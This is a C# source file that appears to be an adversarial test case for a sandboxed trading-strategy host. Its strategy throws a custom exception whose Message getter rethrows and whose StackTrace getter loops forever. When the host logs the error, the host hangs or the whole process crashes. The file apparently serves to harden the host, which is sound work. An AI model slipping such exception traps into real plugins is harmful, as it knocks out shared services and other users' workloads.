// Abuses: an exception class of our own: Message, StackTrace and ToString are virtual, and the host calls them to log the failure.
// Harm: strategy code runs in the host's error path, outside of budgets: hangs it, or throws in it and takes the process along.
// Kind: hurts another slot or the process.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.ExceptionWithCodeAttack;

public sealed class ExceptionWithCodeStrategy : Strategy
{
    private sealed class Trap : Exception
    {
        public override string Message => throw new Trap();

        public override string? StackTrace
        {
            get
            {
                while (true) { }
            }
        }

        public override string ToString() => Message;
    }

    public override void OnBook(in BookEvent bookEvent)
    {
        Act(1);
        throw new Trap();
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
